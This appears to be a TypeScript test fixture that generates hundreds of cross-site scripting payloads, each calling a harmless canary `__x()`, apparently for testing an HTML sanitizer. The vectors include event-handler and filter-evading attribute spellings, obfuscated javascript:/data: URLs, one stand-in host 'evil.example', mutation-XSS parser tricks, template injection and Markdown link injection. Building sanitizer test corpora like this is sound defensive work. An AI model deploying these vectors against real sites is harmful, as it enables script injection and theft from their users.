/** Markup and addresses that make an unsafe page run `__x()`. */

const run = '__x()'

/** Elements that run a script by themselves or by a click; `on` is that script. */
const carriers: readonly ((on: (event: string) => string) => string)[] = [
  on => `<img src=x ${on('error')}>`,
  on => `<img srcset=x ${on('error')} src>`,
  on => `<image src=x ${on('error')}>`,
  on => `<svg ${on('load')}>`,
  on => `<svg><image href=x ${on('error')}>`,
  on => `<svg><animate ${on('begin')} attributeName=x dur=1s>`,
  on => `<svg><set ${on('begin')} attributeName=x dur=1s>`,
  on => `<body ${on('load')}>`,
  on => `<body ${on('pageshow')}>`,
  on => `<iframe ${on('load')}>`,
  on => `<object data=x ${on('error')}>`,
  on => `<embed src=x ${on('load')}>`,
  on => `<video src=x ${on('error')}>`,
  on => `<video><source ${on('error')}></video>`,
  on => `<audio src=x ${on('error')}>`,
  on => `<script src=x ${on('error')}></script>`,
  on => `<link rel=stylesheet href=x ${on('error')}>`,
  on => `<style ${on('load')}>a{}</style>`,
  on => `<style>@keyframes k{}</style><b style=animation-name:k ${on('animationstart')}>b</b>`,
  on => `<input autofocus ${on('focus')}>`,
  on => `<textarea autofocus ${on('focus')}></textarea>`,
  on => `<b contenteditable autofocus tabindex=1 ${on('focus')}>b</b>`,
  on => `<details open ${on('toggle')}><summary>b</summary></details>`,
  on => `<marquee ${on('start')}>b</marquee>`,
  on => `<b ${on('pointerover')}>b</b>`,
  on => `<p ${on('click')} style=position:fixed;inset:0>b</p>`,
  on => `<math><mtext ${on('mouseover')}>b</mtext></math>`,
]

/** Spellings of an attribute that a browser understands and a filter perhaps does not. */
const writings: readonly ((event: string) => string)[] = [
  event => `on${event}=${run}`,
  event => `on${event}="${run}"`,
  event => `on${event}='${run}'`,
  event => `oN${event.toUpperCase()}\n=\t${run}`,
  event => `/on${event}=${run}//`,
  event => `on${event}="&#95;&#x5f;x&lpar;&rpar;"`,
  event => `on${event}=__x\`\``,
  event => `title='">' on${event}=${run}`,
  event => `on${event}="\\u005f_x&#0000040;&#41"`,
  event => `\u000con${event}=top['__'+'x']()`,
]

const byEvents = carriers.flatMap(carrier => writings.map(carrier))

/** Addresses that are scripts, also where a browser must first normalise them. */
export const scriptAddresses: readonly string[] = [
  ...['javascript:', 'JaVaScRiPt:', ' javascript:', '\tjavascript:', '\njavascript:', '\u0001javascript:', '\u001fjavascript:'],
  ...[
    'java\tscript:',
    'java\nscript:',
    'java\r\nscript:',
    'javascript\t:',
    'j\na\nv\na\nscript:',
    '\u00a0javascript:',
    '\ufeffjavascript:',
  ],
  ...['java\0script:', 'javascript&colon;', '&#106;avascript:', '&#x6A;avascript:', 'java&Tab;script:', 'java&NewLine;script:'],
  ...['javascript%3a', 'javascript:%0a', 'javascript://%0a', 'javascript://example.org/%0a', 'javascript:/*--></a>*/', 'javascript\u2060:'],
  ...[
    'jav\u0430script:',
    'ｊavascript:',
    'feed:javascript:',
    'view-source:javascript:',
    'jar:javascript:',
    '\u202ejavascript:',
    'livescript:',
  ],
]
  .map(scheme => `${scheme}${run}`)
  .concat(
    ...[
      'vbscript:__x()',
      'VbScRiPt:__x',
      'data:text/html,<script>__x()</script>',
      'data:text/html;base64,PHNjcmlwdD5fX3goKTwvc2NyaXB0Pg==',
    ],
    ...['data:,<script>__x()</script>', 'DATA:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="__x()"/>'],
    ...['data:application/xhtml+xml,<x:script xmlns:x="http://www.w3.org/1999/xhtml">__x()</x:script>', 'blob:null/__x()'],
    ...['filesystem:http://localhost/__x()', 'about:blank#__x()', 'mhtml:__x()', 'x:javascript:__x()', '//evil.example/__x()'],
  )

const places: readonly ((address: string) => string)[] = [
  address => `<a href="${address}" autofocus>b</a>`,
  address => `<iframe src="${address}"></iframe>`,
  address => `<svg><a xlink:href="${address}"><text y=20>b</text></a></svg>`,
  address => `<form action="${address}"><button autofocus>b</button></form>`,
  address => `<form><button formaction="${address}">b</button></form>`,
  address => `<object data="${address}"></object>`,
  address => `<embed src="${address}">`,
  address => `<meta http-equiv=refresh content="0;url=${address}">`,
  address => `<base href="${address}//"><a href=x>b</a>`,
  address => `<math href="${address}"><mtext>b</mtext></math>`,
  address => `<img src="${address}">`,
  address => `<b style="background:url('${address}')">b</b>`,
]

/** Each address at two places, another pair for the next one. */
const byAddresses = scriptAddresses.flatMap((address, index) =>
  [index, index + 5].map(at => places[at % places.length]!(address.replaceAll('"', '&quot;'))),
)

const inOtherWays: readonly string[] = [
  ...[
    `<script>${run}</script>`,
    `<SCRIPT>${run}</SCRIPT >`,
    `<script/x>${run}</script>`,
    `<script>${run}`,
    `<scr<script>ipt>${run}</script>`,
  ],
  ...[`"><script>${run}</script>`, `'><script>${run}</script>`, `</title><script>${run}</script>`, `</textarea><script>${run}</script>`],
  ...[`</script><script>${run}</script>`, `</style><script>${run}</script>`, `--><script>${run}</script>`, `]]><script>${run}</script>`],
  ...[
    `<!--><script>${run}</script>-->`,
    `<!----!><script>${run}</script>`,
    `<![CDATA[<script>${run}</script>]]>`,
    `<?xml?><script>${run}</script>`,
  ],
  ...[`<iframe srcdoc="<script>parent.${run}</script>"></iframe>`, `<iframe srcdoc='&lt;script>parent.${run}&lt;/script>'></iframe>`],
  ...[`<script type=module>${run}</script>`, `<script src="data:,${run}"></script>`, `<svg><script>${run}</script></svg>`],
  ...[
    `<svg><script href="data:,${run}"/></svg>`,
    `<svg><script>&#95;_x()</script></svg>`,
    `<svg><use href="data:image/svg+xml,<svg id=a onload=${run}>#a">`,
  ],
  ...[
    `<svg><foreignObject><iframe onload=${run}></foreignObject></svg>`,
    `<svg><a><animate attributeName=href values=javascript:${run} /><text>b</text></a>`,
  ],
  // Changes its meaning when it is parsed, serialised and parsed again.
  ...[
    `<noscript><p title="</noscript><img src=x onerror=${run}>"></noscript>`,
    `<svg></p><style><a id="</style><img src=x onerror=${run}>">`,
  ],
  ...[`<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=${run}&gt;">`],
  ...[
    `<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=${run}>`,
    `<math><annotation-xml encoding="text/html"><img src=x onerror=${run}>`,
  ],
  ...[`<svg><style>&lt;img src=x onerror=${run}&gt;</style></svg>`, `<xmp><p title="</xmp><img src=x onerror=${run}>"></xmp>`],
  ...[
    `<listing>&lt;img src=x onerror=${run}&gt;</listing>`,
    `<template><img src=x onerror=${run}></template>`,
    `<noembed><img title="</noembed><img src=x onerror=${run}>">`,
  ],
  ...[`<textarea><p title="</textarea><img src=x onerror=${run}>">`, `<title><p title="</title><img src=x onerror=${run}>">`],
  ...[
    `<select><template shadowrootmode=open><img src=x onerror=${run}></template></select>`,
    `<div><template shadowrootmode=open><img src=x onerror=${run}></template></div>`,
  ],
  ...[`<a id=__x><a id=__x name=y href=javascript:${run}>`, `<form id=document><input name=body>`, `<img name=getElementById src=x>`],
  // Languages of templates and styles.
  ...[
    '{{constructor.constructor("__x()")()}}',
    '${__x()}',
    '#{__x()}',
    '<%= __x() %>',
    '{{__x()}}',
    '[[__x()]]',
    '{%__x()%}',
    '`${__x()}`',
  ],
  ...[
    '<b v-html="`<img src=x onerror=__x()>`">',
    '<b ng-init=__x()>',
    '<b x-init=__x()>',
    '<b data-bind="html:__x()">',
    '<b hx-on:load=__x()>',
  ],
  ...[
    '<b style="width:expression(__x())">',
    '<style>@import "javascript:__x()"</style>',
    '<b style="behavior:url(#__x)">',
    '<style>*{-moz-binding:url(x#__x)}</style>',
  ],
  ...["');__x();//", '");__x();//', '\\");__x();//', "';__x();'", '";__x();"', '\n__x()\n//', '</script>__x()', '\u2028__x()//'],
  // Letters that become others by normalising, truncating or another encoding.
  ...[
    `\uff1cscript\uff1e${run}\uff1c/script\uff1e`,
    `\u02c2script\u02c3${run}`,
    `+ADw-script+AD4-${run}+ADw-/script+AD4-`,
    `%3Cscript%3E${run}%3C/script%3E`,
  ],
  ...[
    `&lt;script&gt;${run}&lt;/script&gt;`,
    `\\x3cscript\\x3e${run}`,
    `\\u003cscript\\u003e${run}`,
    `\u226escript>${run}</script>`,
    `<\u0338script>${run}</script>`,
  ],
  ...[
    `<img src=x on\u0000error=${run}>`,
    `<\u0000script>${run}</script>`,
    `<ſcript>${run}</ſcript>`,
    `<ıframe onload=${run}>`,
    `\u202e<script>${run}</script>`,
  ],
  // In Markdown.
  ...[
    `[b](javascript:${run})`,
    `[b](<javascript:${run}>)`,
    `[b](java\tscript:${run})`,
    `[b](javascript&colon;${run})`,
    `![b](javascript:${run})`,
  ],
  ...[
    `![b](x"onerror="${run})`,
    `[b](x "\\" onclick=${run} \\"")`,
    `<javascript:${run}>`,
    `[b][1]\n\n[1]: javascript:${run}`,
    `[b]: data:text/html,<script>${run}</script>`,
  ],
  ...[
    '```"><script>__x()</script>\nb\n```',
    `> [!"><script>${run}</script>]\n> b`,
    `::: "><script>${run}</script>\nb\n:::`,
    `<div markdown=1><img src=x onerror=${run}></div>`,
  ],
]

/** All markup that would run a script in a page that inserted it unchanged. */
export const scripts: readonly string[] = [...byEvents, ...byAddresses, ...inOtherWays]
